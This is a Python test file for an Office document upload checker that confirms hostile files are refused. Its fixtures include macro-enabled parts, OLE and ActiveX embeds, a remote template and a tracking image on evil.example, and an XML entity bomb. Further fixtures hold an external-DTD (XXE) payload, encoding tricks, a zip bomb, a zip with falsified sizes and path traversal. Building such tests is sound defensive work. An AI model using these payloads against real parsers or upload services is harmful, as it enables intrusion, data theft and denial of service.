import zipfile
from io import BytesIO

import docx
import openpyxl
import pytest
import xlsxwriter

from tests.adapters.office_files import content_types, office, relation
from yakusoku.adapters import office_uploads
from yakusoku.adapters.office_uploads import check_office
from yakusoku.domain.files.acceptance import (
    ContentMismatch,
    EmbeddedObject,
    ExpandsTooMuch,
    ExternalLink,
    FileBroken,
    FileLocked,
    MacrosInside,
    UnsafeXml,
)

MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_TABLE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
BOMB = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
THIEF = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'


def check(content, ending="docx"):
    check_office(f"記録.{ending}", content, ending)


@pytest.mark.parametrize(
    ("ending", "content", "refusal"),
    [
        pytest.param("docx", office("docx", {"word/vbaProject.bin": b"x"}), MacrosInside, id="macro-part"),
        pytest.param(
            "docx", office("docx", {"word/VBAPROJECT.BIN": b"x"}), MacrosInside, id="macro-part-in-capitals"
        ),
        pytest.param(
            "docx",
            office("docx", types=content_types("docx", MACRO_DOCUMENT)),
            MacrosInside,
            id="docm-renamed",
        ),
        pytest.param(
            "xlsx", office("xlsx", types=content_types("xlsx", MACRO_TABLE)), MacrosInside, id="xlsm-renamed"
        ),
        pytest.param(
            "xlsx",
            office(
                "xlsx",
                types=content_types(
                    "xlsx", more='<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/>'
                ),
            ),
            MacrosInside,
            id="macros-under-another-name",
        ),
        pytest.param(
            "xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}), MacrosInside, id="excel-4-macros"
        ),
        pytest.param(
            "docx",
            office("docx", {"word/_rels/a.rels": relation("vbaProject", "x.bin")}),
            MacrosInside,
            id="macro-relation",
        ),
        pytest.param(
            "docx", office("docx", {"word/embeddings/oleObject1.bin": b"x"}), EmbeddedObject, id="ole-object"
        ),
        pytest.param(
            "docx", office("docx", {"word/embeddings/a.docm": b"x"}), EmbeddedObject, id="embedded-document"
        ),
        pytest.param(
            "docx", office("docx", {"word/activeX/activeX1.xml": "<x/>"}), EmbeddedObject, id="active-x"
        ),
        pytest.param(
            "docx",
            office("docx", {"word/_rels/a.rels": relation("aFChunk", "a.html")}),
            EmbeddedObject,
            id="embedded-web-page",
        ),
        pytest.param(
            "docx",
            office("docx", {"word/_rels/a.rels": relation("oleObject", "x")}),
            EmbeddedObject,
            id="ole-relation",
        ),
        pytest.param(
            "pptx",
            office("pptx", {"ppt/embeddings/t.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}),
            MacrosInside,
            id="macros-in-the-table-of-a-chart",
        ),
        pytest.param(
            "pptx",
            office(
                "pptx", {"ppt/embeddings/t.xlsx": office("xlsx", {"xl/embeddings/u.xlsx": office("xlsx")})}
            ),
            EmbeddedObject,
            id="table-in-the-table-of-a-chart",
        ),
        pytest.param(
            "docx",
            office(
                "docx",
                {"word/_rels/a.rels": relation("attachedTemplate", "http://evil.example/t.dotm", "External")},
            ),
            ExternalLink,
            id="template-from-elsewhere",
        ),
        pytest.param(
            "docx",
            office(
                "docx", {"word/_rels/a.rels": relation("image", "https://evil.example/seen.png", "External")}
            ),
            ExternalLink,
            id="picture-from-elsewhere",
        ),
        pytest.param(
            "docx",
            office("docx", {"word/_rels/a.rels": relation("hyperlink", "file://server/share", "External")}),
            ExternalLink,
            id="link-to-a-file-server",
        ),
        pytest.param(
            "xlsx",
            office("xlsx", {"xl/externalLinks/externalLink1.xml": "<x/>"}),
            ExternalLink,
            id="other-workbook",
        ),
        pytest.param("docx", office("docx", {"word/a.xml": BOMB}), UnsafeXml, id="entities"),
        pytest.param(
            "docx", office("docx", {"word/a.xml": THIEF}), UnsafeXml, id="document-type-from-elsewhere"
        ),
        pytest.param(
            "docx", office("docx", {"word/a.xml": BOMB.encode("utf-16")}), UnsafeXml, id="entities-in-utf-16"
        ),
        pytest.param(
            "docx",
            office("docx", {"word/a.xml": BOMB.encode("utf-16-le")}),
            UnsafeXml,
            id="utf-16-without-mark",
        ),
        pytest.param(
            "docx",
            office("docx", {"word/a.xml": "<?xml version='1.0' encoding='utf-7'?>+ADwAIQ-DOCTYPE x>"}),
            UnsafeXml,
            id="another-encoding",
        ),
        pytest.param(
            "docx",
            office("docx", {"word/a.xml": " " * (office_uploads.PIECE - 5) + "<!DOCTYPE x><x/>"}),
            UnsafeXml,
            id="document-type-across-two-pieces",
        ),
        pytest.param("docx", office("docx", types=THIEF), UnsafeXml, id="document-type-in-the-list-of-types"),
        pytest.param("docx", office("xlsx"), ContentMismatch, id="table-named-docx"),
        pytest.param("docx", b"PK\x03\x04" + b"x" * 100, FileBroken, id="no-archive"),
        pytest.param("docx", office("docx")[:-30], FileBroken, id="cut-off"),
        pytest.param("docx", office("docx", {"../evil.xml": "<x/>"}), FileBroken, id="way-out-of-the-folder"),
        pytest.param("docx", office("docx", {"Word/Document.xml": "<x/>"}), FileBroken, id="same-part-twice"),
        pytest.param("docx", office("docx", compression=zipfile.ZIP_LZMA), FileBroken, id="unusual-packing"),
        pytest.param("docx", office("docx", types="<Types"), FileBroken, id="broken-xml"),
    ],
)
def test_an_office_file_is_refused(ending, content, refusal):
    with pytest.raises(refusal):
        check(content, ending)


def test_an_archive_that_is_no_office_file_is_refused():
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.txt", "x")
    with pytest.raises(ContentMismatch):
        check(file.getvalue())


def test_a_file_that_swells_is_refused_by_its_table_of_contents():
    with pytest.raises(ExpandsTooMuch):
        check(office("docx", {"word/a.bin": b"\0" * 20_000_000}))


def test_a_file_that_lies_about_its_size_is_never_unpacked_beyond_what_it_told():
    size = 20_000_000
    bomb = office("docx", {"word/a.bin": b"\0" * size})
    # The sizes in the table of contents and before the part itself now say that it is small.
    lie = bomb.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    assert lie != bomb
    with pytest.raises((FileBroken, ExpandsTooMuch)):
        check(lie)


def test_too_many_parts_are_refused():
    parts = {f"word/{n}.bin": b"" for n in range(office_uploads.MOST_ENTRIES + 1)}
    with pytest.raises(ExpandsTooMuch):
        check(office("docx", parts))


def test_a_part_with_a_password_is_refused():
    content = bytearray(office("docx"))
    at = content.rfind(b"PK\x01\x02")
    content[at + 8] |= 1
    with pytest.raises(FileLocked):
        check(bytes(content))


@pytest.mark.parametrize("ending", ["docx", "xlsx", "pptx"])
def test_a_plain_file_is_taken(ending):
    check(office(ending), ending)


@pytest.mark.parametrize(
    "parts",
    [
        pytest.param(
            {"word/_rels/a.rels": relation("hyperlink", "https://example.jp/", "External")}, id="link"
        ),
        pytest.param(
            {"word/_rels/a.rels": relation("hyperlink", "mailto:a@example.jp", "External")}, id="mail"
        ),
        pytest.param({"word/embeddings/t.xlsx": office("xlsx")}, id="table-behind-a-chart"),
        pytest.param(
            {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><x/>'.encode("utf-16")},
            id="utf-16",
        ),
        pytest.param({"word/a.xml": "\ufeff<x>点検 &lt;!DOCTYPE&gt;</x>"}, id="text-about-document-types"),
    ],
)
def test_what_ordinary_files_hold_is_taken(parts):
    check(office("docx", parts))


def test_files_of_real_programs_are_taken():
    document, table, sheets = docx.Document(), openpyxl.Workbook(), BytesIO()
    document.add_paragraph("点検の記録")
    table.active["A1"] = "点検"
    with xlsxwriter.Workbook(sheets) as book:
        sheet = book.add_worksheet()
        for row in range(2000):
            sheet.write_row(row, 0, ["みなと市", row, "はい"])
    for made, ending in ((document, "docx"), (table, "xlsx")):
        file = BytesIO()
        made.save(file)
        check(file.getvalue(), ending)
    check(sheets.getvalue(), "xlsx")
